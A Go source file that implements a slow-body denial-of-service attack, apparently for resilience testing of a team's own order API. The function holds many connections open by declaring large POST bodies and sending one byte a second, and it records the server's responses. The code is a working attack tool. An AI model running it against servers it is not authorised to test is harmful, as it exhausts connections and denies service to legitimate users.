package attack

import (
	"bufio"
	"context"
	"fmt"
	"net"
	"net/url"
	"strconv"
	"strings"
	"sync/atomic"
	"time"
)

// SlowBodies is the slow-body attack of issue 17: perSecond new
// connections a second from the address from, each sending the headers of
// POST /v1/orders with key and "Content-Length: 100000", then "{" and one
// space a second, until the server answers or closes, or ctx ends. It
// returns once every connection is closed, with what the server answered
// each (status 0: closed without an answer). Extra counts "max_open", the
// most connections open at once.
func SlowBodies(ctx context.Context, base, key string, from net.IP, perSecond float64) (Summary, error) {
	u, err := url.Parse(base)
	if err != nil {
		return Summary{}, err
	}
	rec := &Record{}
	var open, maxOpen atomic.Int64
	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: from}, Timeout: 10 * time.Second}
	head := fmt.Sprintf("POST /v1/orders HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n"+
		"Authorization: Bearer %s\r\n\r\n{", u.Host, key)
	every(ctx, time.Duration(float64(time.Second)/perSecond), func(int) {
		start := time.Now()
		conn, err := d.DialContext(ctx, "tcp", u.Host)
		if err != nil {
			if ctx.Err() == nil {
				rec.add(0, err, time.Since(start))
			}
			return
		}
		defer conn.Close()
		n := open.Add(1)
		defer open.Add(-1)
		for m := maxOpen.Load(); n > m && !maxOpen.CompareAndSwap(m, n); m = maxOpen.Load() {
		}
		if _, err := conn.Write([]byte(head)); err != nil {
			rec.add(0, nil, time.Since(start))
			return
		}
		answered := make(chan int, 1)
		go func() {
			line, _ := bufio.NewReader(conn).ReadString('\n')
			status := 0
			if f := strings.Fields(line); len(f) > 1 {
				status, _ = strconv.Atoi(f[1])
			}
			answered <- status
		}()
		tick := time.NewTicker(time.Second)
		defer tick.Stop()
		for {
			select {
			case status := <-answered:
				rec.add(status, nil, time.Since(start))
				return
			case <-ctx.Done():
				return // still open when the attack stopped: not an outcome
			case <-tick.C:
				if _, err := conn.Write([]byte(" ")); err != nil {
					rec.add(<-answered, nil, time.Since(start))
					return
				}
			}
		}
	})
	s := rec.Summary()
	s.Extra = map[string]int{"max_open": int(maxOpen.Load())}
	return s, nil
}
